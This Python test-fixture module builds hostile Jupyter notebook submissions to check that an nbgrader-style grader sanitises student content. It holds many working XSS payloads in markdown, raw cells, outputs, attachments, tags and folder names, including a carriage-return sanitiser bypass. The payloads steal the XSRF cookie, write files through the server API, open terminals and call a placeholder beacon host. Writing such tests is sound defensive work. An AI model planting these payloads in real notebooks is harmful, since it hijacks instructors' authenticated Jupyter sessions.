"""What any student can put in a notebook to run script in the pages an instructor opens (issue 31).

Each payload, wherever it runs, does what a real one would on the Jupyter server's own origin: it writes a file
into the course folder through the contents API, opens a terminal, and loads a beacon URL
(``http://beacon.invalid/<kind>``, a name that never resolves: the browser test sees the request). The kind names
the way in, so a failure says which one got through.
"""

import base64
import copy

import nbformat

BEACON = "beacon.invalid"
WRITTEN = "pwned-"  # the files a payload that ran writes into the Jupyter server's root


def script(kind):
    """JavaScript that writes pwned-<kind>.txt, opens a terminal and calls the beacon (single quotes only)."""
    return ("var t=(document.cookie.match(/_xsrf=([^;]*)/)||[])[1]||'';"
            "var h={'X-XSRFToken':decodeURIComponent(t),'Content-Type':'application/json'};"
            f"fetch('/api/contents/{WRITTEN}{kind}.txt',{{method:'PUT',headers:h,"
            f"body:JSON.stringify({{type:'file',format:'text',content:'{kind}'}})}});"
            "fetch('/api/terminals',{method:'POST',headers:h,body:'{}'});"
            f"new Image().src='http://{BEACON}/{kind}';")


def slashless_script(kind):
    """The beacon in a folder name: no '/' (a name cannot hold one) and no space (it ends an unquoted attribute)."""
    return f"fetch('http:'+String.fromCharCode(47,47)+'{BEACON}'+String.fromCharCode(47)+'{kind}')"


# A student folder named like markup (nbgrader's formgrader lists every folder of submitted/).
MARKUP_STUDENT = f'"><img src=x onerror={slashless_script("folder-name")}>'

SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{script("svg-image")}"><circle r="4"/></svg>'

MARKDOWN = {
    "img-onerror-markdown": f'<img src="y" onerror="{script("img-onerror-markdown")}">',
    "script-markdown": f"<script>{script('script-markdown')}</script>",
    "svg-onload-markdown": f'<svg onload="{script("svg-onload-markdown")}"><circle r="4"/></svg>',
    "iframe-srcdoc": f'<iframe srcdoc="<script>{script("iframe-srcdoc")}</script>"></iframe>',
    "javascript-link": f'<a id="click-me" href="javascript:{script("javascript-link")}">click me</a>',
    "meta-refresh": f'<meta http-equiv="refresh" content="0;url=http://{BEACON}/meta-refresh">',
    "mermaid": f"```mermaid\n<img src=x onerror=\"{script('mermaid')}\">\n```",
    # latex2mathml passes the markup of \\text{...} through (its spaces as &nbsp;, so "/" separates attributes), and
    # \\href{javascript:...} as a MathML href that Firefox follows; TeX would take a script's braces: beacons alone.
    "math-text": f'$\\text{{<img/src="x"/onerror={slashless_script("math-text")}>}}$',
    "math-href": f"$\\href{{javascript:{slashless_script('math-href')}}}{{x}}$",
    "attachment": "![a picture](attachment:picture.svg) ![a page](attachment:page.html) ![a pixel](attachment:pixel.png)",
    # Found by review: a carriage return inside an attribute ends the sanitiser's one-line HTML block where a CommonMark
    # renderer reads CR as a line end, and what follows is markdown again: a link whose address becomes attributes.
    "carriage-return": '<span title="&#13;&#13;[a](x/autofocus/contenteditable/onfocus='
                       + slashless_script("carriage-return") + '//)">z</span>',
    # A class turns MathJax back on (the formgrader loads it when online) for TeX that loads a URL as a cursor.
    "mathjax-class": '<span class="tex2jax_process">&#36;\\style{cursor:url(http&#58;//beacon.invalid/mathjax-class),'
                     'auto}{\\Huge X}&#36;</span>',
}
# A raw cell that nbconvert renders as HTML.
RAW = f'<img src="y" onerror="{script("raw-cell")}">'

# What an honest student shows, which must still show: a plot and a picture pasted into a markdown cell.
HONEST_PLOT = """import io
import matplotlib.pyplot as plt
from IPython.display import Image
_fig, _ax = plt.subplots(figsize=(2, 2))
_ax.plot([0, 1], [0, 1])
_png = io.BytesIO()
_fig.savefig(_png, format="png")
plt.close(_fig)  # shown once, as the Image below (a kernel's inline backend would show an open figure too)
display(Image(_png.getvalue()))
"""
PIXEL = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mP8z8DwHwAFBQIAX8jx0gAAAABJRU5ErkJggg=="

# Code a student runs before a test cell: its outputs are in the notebook the grader keeps.
OUTPUTS = [
    ("HTML", f'<img src="y" onerror="{script("img-onerror-html")}">'),
    ("HTML", f"<script>{script('script-html')}</script>"),
    ("Javascript", script("javascript-output")),
    ("SVG", SVG),
    ("Markdown", f'<img src="y" onerror="{script("markdown-output")}">'),
    ("Latex", "$\\style{cursor:url(http://beacon.invalid/latex-output),auto}{X}$"),
]
CODE = ("from IPython.display import HTML, SVG, Javascript, Latex, Markdown, display\n"
        + "".join(f"display({kind}({text!r}))\n" for kind, text in OUTPUTS)
        + "display({'text/vnd.mermaid': 'graph TD; A-->B'}, raw=True)\n"
        + "print('<b>printed markup stays text</b>')\n"
        + HONEST_PLOT)
ATTACHMENTS = {
    "picture.svg": {"image/svg+xml": base64.b64encode(SVG.encode()).decode()},
    "page.html": {"text/html": base64.b64encode(f"<script>{script('attachment-html')}</script>".encode()).decode()},
    "pixel.png": {"image/png": PIXEL},
}
WIDGETS = {"application/vnd.jupyter.widget-state+json": {"version_major": 2, "version_minor": 0, "state": {}}}


def hostile(nb):
    """``nb`` (a submission) with every payload added before its first exercise, where the grader runs it."""
    nb = copy.deepcopy(nb)
    cells = [nbformat.v4.new_markdown_cell(source) for source in MARKDOWN.values()]
    cells[list(MARKDOWN).index("attachment")].attachments = ATTACHMENTS
    code = nbformat.v4.new_code_cell(CODE)
    code.metadata["tags"] = ['x"><img src=x onerror=alert(1)>']
    raw = nbformat.v4.new_raw_cell(RAW, metadata={"raw_mimetype": "text/html"})
    nb.cells[1:1] = cells + [raw, code]
    nb.metadata["widgets"] = WIDGETS
    return nb


def recorded_outputs():
    """The outputs the kernel records for ``CODE``: what a grader that did not sanitise kept in autograded/."""
    bundles = {"HTML": "text/html", "Javascript": "application/javascript", "SVG": "image/svg+xml",
               "Markdown": "text/markdown", "Latex": "text/latex"}
    outputs = [nbformat.v4.new_output("display_data", data={bundles[kind]: text, "text/plain": f"<{kind} object>"})
               for kind, text in OUTPUTS]
    outputs.append(nbformat.v4.new_output("display_data", data={"text/vnd.mermaid": "graph TD; A-->B"}))
    outputs.append(nbformat.v4.new_output("stream", name="stdout", text="<b>printed markup stays text</b>\n"))
    outputs.append(nbformat.v4.new_output("display_data", data={"image/png": PIXEL, "text/plain": "<Image>"}))
    return outputs


def as_graded_before(nb):
    """A hostile submission as a grader that did not sanitise wrote it: payload cells, outputs and metadata kept."""
    nb = hostile(nb)
    code = next(c for c in nb.cells if c.cell_type == "code" and c.source == CODE)
    code.outputs = recorded_outputs()
    return nb
